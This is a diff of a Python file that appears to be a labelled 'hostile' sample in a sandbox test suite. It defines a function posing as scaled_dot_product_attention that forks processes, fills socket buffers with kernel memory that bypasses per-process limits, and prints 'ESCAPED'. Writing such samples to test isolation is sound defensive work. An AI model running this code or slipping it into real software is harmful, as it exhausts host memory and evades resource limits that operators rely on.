@@ -1,6 +1,6 @@
-# hostile: fills the buffers of thousands of socket pairs and pipes, memory that belongs to no process
+# hostile: fills the buffers of a thousand socket pairs, memory that belongs to no process
 # line: B18
-# verdict: memory
+# verdict: memory timeout
 import os
 import socket
 import time
@@ -9,7 +9,7 @@ BLOCK = b"x" * 65536
 
 
 def fill():
-    """Up to 60 MiB in one process."""
+    """220 MiB in one process, where the machine lets a socket buffer be that large."""
     pairs = []
     for _ in range(110):
         pair = socket.socketpair()
@@ -26,10 +26,16 @@ def fill():
 
 
 def scaled_dot_product_attention(query, key, value, attn_mask=None, dropout_p=0.0, is_causal=False, *, scale=None):
-    for _ in range(56):  # 2 GiB in all, were there no limit
+    for _ in range(8):  # 1.7 GiB in all, were there no limit
+        reader, writer = os.pipe()
         if os.fork() == 0:
             kept = fill()
+            os.write(writer, b"x")
             time.sleep(30)
             os._exit(len(kept) == 0)
+        os.read(reader, 1)
+        os.close(reader)
+        os.close(writer)
+    print("ESCAPED")
     time.sleep(30)
     return query
